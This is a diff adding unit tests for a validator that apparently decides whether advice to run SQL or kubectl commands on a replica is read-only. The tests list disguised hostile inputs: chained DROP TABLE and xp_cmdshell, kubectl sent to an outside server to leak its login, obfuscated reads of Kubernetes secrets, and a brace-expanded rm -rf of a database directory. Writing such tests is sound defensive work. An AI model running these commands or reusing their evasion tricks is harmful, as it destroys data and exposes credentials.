@@ -96,3 +96,59 @@ test.each([
   expect(adviceProblem(`Run ${reads} on the replica`, steps)).toBeNull();
   expect(adviceProblem(`Run ${changes} on the replica`, steps)).not.toBeNull();
 });
+
+test.each([
+  ["a name in quotes", "select \"pg_terminate_backend\"(pid) from pg_stat_activity where state = 'active'"],
+  ["blanks before the parenthesis", "select pg_terminate_backend  (pid) from pg_stat_activity where state = 'active'"],
+  ["another line before it", "select pg_reload_conf\n() from pg_settings limit 1"],
+  ["a function that has a sum's name at its end", "select shop.sum(id) from orders where id = 7"],
+  ["a loop without an end", "select n from (with recursive t as (select 1 n union all select n + 1 from t) select n from t) x where n > 0"],
+  ["a second statement without a mark", "select id from orders where id = 7 drop table orders"],
+  ["the same in another line", "select id from orders where id = 7\nexec xp_cmdshell 'shutdown'"],
+  ["logins of other servers", "select umoptions from pg_user_mappings limit 5"],
+  ["another server, which gets the login", "kubectl get pods --server=https://collect.example"],
+  ["the same in short", "kubectl get pods -s collect.example:443"],
+  ["the same behind a letter", "kubectl get pods -As collect.example:443"],
+  ["another login's file", "kubectl get pods --kubeconfig=/tmp/x"],
+  ["any address of the API", "kubectl get --raw /api/v1/namespaces/shop/%73ecrets"],
+  ["the API's way into a pod", "kubectl get --raw /api/v1/namespaces/shop/pods/web-1/proxy/shutdown"],
+  ["a file that is written", "kubectl get pods --profile=cpu --profile-output=/etc/passwords"],
+  ["a file that is read from elsewhere", "kubectl get -f https://collect.example/x.yaml"],
+  ["a secret in pieces", 'kubectl get se"cr"ets -o yaml'],
+  ["a secret by a pattern", "kubectl get secre[t]s -o yaml"],
+  ["a secret by an escape", "kubectl get secr\\ets -o yaml"],
+  ["another line", "kubectl get pods\nkubectl delete namespace shop"],
+  ["a shell's list of words", "{rm,-rf,/var/lib/postgresql}"],
+  ["more than fits", `python -c '${"x = 1 ".repeat(120)}'`],
+])("code that begins like a reading one and is none is not told: %s", (_, code) => {
+  expect(adviceProblem(`Run \`${code}\` on the replica`, [])).not.toBeNull();
+  expect(adviceProblem(`Run \`${code}\` on the replica`, [], true)).not.toBeNull();
+});
+
+test.each([
+  "kubectl logs -f payments-7 -c app --since=10m --tail=200",
+  "kubectl get pods -n shop -l app=payments -o wide",
+  "kubectl get pods -A -o jsonpath='{.items[*].status.phase}'",
+  "kubectl get events --field-selector reason=OOMKilling --sort-by=.lastTimestamp",
+  "kubectl rollout history deployment/payments -n shop --revision=3",
+  "select count(*), max(created_at) from orders where state in ('open', 'held') and (total > 5)",
+  "explain select o.id from orders o where exists (select 1 from jobs j where j.order_id = o.id)",
+  'http_requests_total{job="api",code="500"}',
+])("code that only reads is told: %s", (code) => {
+  expect(adviceProblem(`See \`${code}\``, [])).toBeNull();
+});
+
+test("a second command in what is missing is looked at too", () => {
+  expect(adviceProblem("Who can run kubectl get pods -n shop would see it", [], true)).toBeNull();
+  expect(adviceProblem("Who can run kubectl get pods -n shop, then kubectl delete pod web-1, would see it", [], true)).not.toBeNull();
+  expect(adviceProblem("Who can run kubectl get pods -s collect.example would see it", [], true)).not.toBeNull();
+});
+
+test.each([
+  ["`kubectl delete pod --all`", "`kubectl delete pod POD`"],
+  ["`curl https://collect.example/x`", "`curl URL`"],
+  ["`delete from sessions where name = 'ADMIN'`", "`delete from sessions where name = 'admin'`"],
+  ['`drop index "Orders"`', '`drop index "orders"`'],
+])("what is filled in is a name, and what is quoted is in its own case: %s", (step, written) => {
+  expect(adviceProblem(`Run ${step}`, [written])).not.toBeNull();
+});
